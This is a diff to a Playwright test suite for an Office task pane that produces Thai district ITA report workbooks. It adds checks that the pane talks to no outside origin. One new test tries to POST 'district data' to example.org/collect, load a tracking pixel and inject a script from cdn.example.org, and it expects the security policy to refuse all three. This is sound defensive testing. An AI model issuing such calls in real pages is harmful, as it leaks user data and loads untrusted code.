@@ -3,7 +3,17 @@ import { promises as fs } from "fs";
 import os from "os";
 import path from "path";
 import { Browser, Page } from "playwright-core";
-import { axe, launch, overflowX, ROOT, screenshots, serve } from "./support";
+import {
+  axe,
+  launch,
+  overflowX,
+  ROOT,
+  screenshots,
+  serve,
+  strayRequests,
+  Traffic,
+  watchTraffic,
+} from "./support";
 
 const ITA = path.join(ROOT, "bin", "ita.js");
 const SAMPLE = JSON.parse(
@@ -36,14 +46,25 @@ afterAll(async () => {
   await server?.close();
 });
 
-async function open(width = 500): Promise<Page> {
+const origin = () => new URL(server.url).origin;
+const traffic = new WeakMap<Page, Traffic>();
+
+async function open(width = 500, query = ""): Promise<Page> {
   const page = await browser.newPage({ viewport: { width, height: 900 }, reducedMotion: "reduce" });
   const errors: string[] = [];
   page.on("pageerror", (e) => errors.push(String(e)));
-  await page.goto(server.url);
-  await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
+  traffic.set(page, await watchTraffic(page, origin()));
+  await page.goto(`${server.url}${query}`);
   (page as unknown as { errors: string[] }).errors = errors;
   return page;
+}
+
+/** The pane made no request beyond its own server (and the Office.js CDN), and broke no CSP rule. */
+function expectTalkedToNoOne(page: Page) {
+  const t = traffic.get(page)!;
+  expect(strayRequests(t, origin())).toEqual([]);
+  expect(t.violations).toEqual([]);
+  expect(t.requests.length).toBeGreaterThan(0);
 }
 
 async function checkView(page: Page, name: string) {
@@ -62,6 +83,7 @@ describe("the task pane in Chromium", () => {
 
   it("district flow: create the form, type scores, validate, go to I22, insert measures, ready to submit", async () => {
     const page = await open();
+    await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
     await checkView(page, "1-create");
     await page.getByRole("combobox", { name: /หน่วยงาน/ }).fill("จอมทอง");
     await page.getByRole("button", { name: "สร้างแบบรายงาน" }).click();
@@ -106,6 +128,7 @@ describe("the task pane in Chromium", () => {
     filledFile = path.join(dir, "1035-from-the-pane.xlsx");
     await fs.writeFile(filledFile, Buffer.from(await t.evaluate((x) => x.xlsxBase64()), "base64"));
     expect((page as unknown as { errors: string[] }).errors).toEqual([]);
+    expectTalkedToNoOne(page);
     await page.close();
   });
 
@@ -171,6 +194,7 @@ describe("the task pane in Chromium", () => {
     ]);
     await fs.writeFile(files[2], "these are meeting notes, not a workbook");
     const page = await open();
+    await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
     await page.getByRole("tab", { name: "รวมรายงาน" }).click();
     await page.getByLabel(/เลือกไฟล์ .xlsx/).setInputFiles(files);
     await checkView(page, "5-merge");
@@ -180,12 +204,57 @@ describe("the task pane in Chromium", () => {
     await status.getByText(/c-notes\.xlsx — ไฟล์ c-notes\.xlsx ไม่ใช่ไฟล์ Excel/).waitFor();
     const t = await it$(page);
     expect(await t.evaluate((x) => x.sheetNames())).toEqual([
+      "Sheet1",
       "ITA คะแนน",
       "ITA ต่ำกว่าเกณฑ์",
       "ITA สรุปมาตรการ",
       "ITA สถานะการส่ง",
     ]);
     await checkView(page, "6-merged");
+    expectTalkedToNoOne(page);
+    await page.close();
+  });
+
+  it("cannot reach anyone else: the Content-Security-Policy refuses requests to other origins", async () => {
+    const page = await open(500, "?ui=en-US");
+    // Office's UI language is English here, so the pane opens in English.
+    await page.getByRole("heading", { name: "ITA District Report" }).waitFor();
+    const attempts = await page.evaluate(async () => {
+      const seen: string[] = [];
+      document.addEventListener("securitypolicyviolation", (e) =>
+        seen.push(`${e.violatedDirective} ${e.blockedURI}`)
+      );
+      const tries = [
+        fetch("https://example.org/collect", { method: "POST", body: "district data" }).then(
+          () => "fetch sent",
+          () => "fetch refused"
+        ),
+        new Promise((resolve) => {
+          const img = new Image();
+          img.onload = () => resolve("image loaded");
+          img.onerror = () => resolve("image refused");
+          img.src = "https://example.org/pixel.gif";
+        }),
+        new Promise((resolve) => {
+          const s = document.createElement("script");
+          s.onload = () => resolve("script loaded");
+          s.onerror = () => resolve("script refused");
+          s.src = "https://cdn.example.org/x.js";
+          document.head.appendChild(s);
+        }),
+      ];
+      const results = await Promise.all(tries);
+      await new Promise((r) => setTimeout(r, 50));
+      return { results, seen };
+    });
+    expect(attempts.results).toEqual(["fetch refused", "image refused", "script refused"]);
+    expect(attempts.seen.map((s) => s.split(" ")[0]).sort()).toEqual([
+      "connect-src",
+      "img-src",
+      "script-src-elem",
+    ]);
+    // Refused by the policy before any request left the page.
+    expect(strayRequests(traffic.get(page)!, origin())).toEqual([]);
     await page.close();
   });
 
